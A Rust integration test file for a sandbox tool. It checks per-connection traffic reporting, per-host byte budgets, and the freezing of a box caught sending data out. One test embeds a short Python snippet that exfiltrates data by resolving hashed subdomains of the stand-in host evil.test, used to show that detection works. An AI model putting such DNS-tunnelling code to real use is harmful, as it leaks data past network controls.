//! What a person sees of a box's traffic, and what they can limit, with real programs in real boxes.

use super::host::{PATIENCE, TestHost};
use box_api::control::{BoxEvent, BoxUsage, EventKind};
use box_api::network::NetLine;
use box_fakes::rig::Listener;
use std::time::Instant;

fn lines(host: &TestHost) -> Vec<NetLine> {
    serde_json::from_str(&host.ok(&["net", "one", "--json"])).unwrap()
}

/// Asks again until there is an answer.
#[track_caller]
fn until<T>(host: &TestHost, ask: impl Fn() -> Option<T>) -> T {
    let deadline = Instant::now() + PATIENCE;
    loop {
        if let Some(answer) = ask() {
            return answer;
        }
        let told = host.ok(&["net", "one"]);
        assert!(Instant::now() < deadline, "{told}\n{}", host.whereabouts());
    }
}

fn befell(host: &TestHost, kind: EventKind) -> Option<BoxEvent> {
    let events: Vec<BoxEvent> =
        serde_json::from_str(&host.ok(&["events", "one", "--json"])).unwrap();
    events.into_iter().rfind(|event| event.kind == kind)
}

/// Sends a thousand bytes, reads them back, and stays.
const STAYS: &str = "import socket, time; s = socket.create_connection(('ok.test', 7001), 30); \
    s.sendall(b'x' * 1000); n = 0\n\
    while n < 1000: n += len(s.recv(1000))\n\
    time.sleep(600)";

#[test]
fn an_open_connection_is_shown_with_its_program_and_its_bytes() {
    let host = TestHost::new();
    host.rig.origin("ok.test");
    host.rig.listen(7001, Listener::Echo).unwrap();
    host.ok(&["new", "one", "--allow", "ok.test:7001"]);
    let stays = host
        .program(&["exec", "one", "--", "python3", "-c", STAYS])
        .start();
    let open = until(&host, || {
        let mut all = lines(&host).into_iter();
        all.find(|line| line.open && line.process.is_some() && line.received_bytes == 1000)
    });
    assert_eq!(
        (open.host.as_str(), open.way.as_str()),
        ("ok.test:7001", "transparent")
    );
    assert!(open.address.ends_with(":7001"), "{open:?}");
    let process = open.process.unwrap();
    assert!(process.name.starts_with("python3"), "{process:?}");
    // Its number is the one it has in the box.
    let known = host.shell(
        "one",
        &format!("tr '\\0' ' ' < /proc/{}/cmdline", process.pid),
    );
    assert!(known.out.contains("sendall"), "{known}");
    let boxes: Vec<BoxUsage> = serde_json::from_str(&host.ok(&["top", "--json"])).unwrap();
    let net = boxes[0].used.unwrap().net;
    assert_eq!(
        (net.sent_bytes, net.received_bytes, net.open),
        (1000, 1000, 1)
    );
    let shown = host.ok(&["net", "one"]);
    assert!(
        shown.contains("open") && shown.contains("python3"),
        "{shown}"
    );
    let info = host.ok(&["info", "one"]);
    assert!(
        info.contains("1.0 kB sent, 1.0 kB received, 1 connections open"),
        "{info}"
    );

    host.shell("one", &format!("kill {}", process.pid));
    drop(stays.finish(PATIENCE));
    let over = until(&host, || {
        let all = lines(&host);
        let is_over = all.iter().all(|line| !line.open);
        all.into_iter().find(|line| is_over && line.times == 1)
    });
    assert_eq!(over.process.unwrap(), process, "kept with the line");
    assert_eq!((over.sent_bytes, over.received_bytes), (1000, 1000));
    assert!(
        host.ok(&["net", "one", "--host", "ok.test"])
            .contains("ok.test:7001")
    );
    assert!(
        !host
            .ok(&["net", "one", "--blocked"])
            .contains("ok.test:7001")
    );
}

#[test]
fn a_box_that_sends_data_in_names_is_frozen_where_its_owner_wants_that() {
    let host = TestHost::new();
    host.ok(&["new", "one", "--net", "locked"]);
    host.ok(&["set", "one", "on-signal=freeze"]);
    let leak = "import socket, hashlib\n\
        for n in range(40):\n\
        \x20 name = hashlib.sha256(str(n).encode()).hexdigest()[:48] + '.evil.test'\n\
        \x20 try: socket.gethostbyname(name)\n\
        \x20 except OSError: pass\n";
    let leaks = host
        .program(&["exec", "one", "--", "python3", "-c", leak])
        .start();
    let signal = until(&host, || befell(&host, EventKind::Signal));
    assert!(signal.text.contains("`evil.test`"), "{signal:?}");
    until(&host, || befell(&host, EventKind::Frozen));
    let list = host.ok(&["list"]);
    assert!(list.contains("frozen: signal"), "{list}");
    assert!(
        host.ok(&["info", "one"])
            .contains("look as if they carry data")
    );
    let refused = host.shell("one", "echo here");
    assert_ne!(refused.code, 0, "{refused}");
    assert!(refused.err.contains("box thaw one"), "{refused}");
    host.ok(&["thaw", "one"]);
    drop(leaks.finish(PATIENCE));
    assert_eq!(host.shell("one", "echo here").out, "here\n");
    assert_eq!(host.rig.queries(), [], "nothing left the machine");
}

#[test]
fn a_budget_holds_for_each_host_until_it_is_raised() {
    let host = TestHost::new();
    host.rig.origin("ok.test");
    host.ok(&["new", "one", "--allow", "ok.test"]);
    host.ok(&["set", "one", "net-budget=1M"]);
    let get = |path: &str| {
        host.shell("one", &format!("curl -s -m 60 -o /dev/null -w '%{{http_code}} %{{size_download}}' http://ok.test{path}"))
    };
    assert_eq!(get("/bytes/1000").out, "200 1000");
    let cut = get("/bytes/90000000");
    assert_ne!(cut.code, 0, "{cut}");
    let refused = host.shell("one", "curl -s -m 60 http://ok.test/");
    assert!(
        refused.out.contains("its owner can allow more"),
        "{refused}"
    );
    let told = until(&host, || befell(&host, EventKind::Signal));
    assert!(told.text.contains("`ok.test`"), "{told:?}");
    until(&host, || {
        let all = lines(&host);
        all.into_iter().find(|line| line.verdict == "budget")
    });
    host.ok(&["set", "one", "net-budget=1G"]);
    assert_eq!(get("/bytes/1000").out, "200 1000");
}
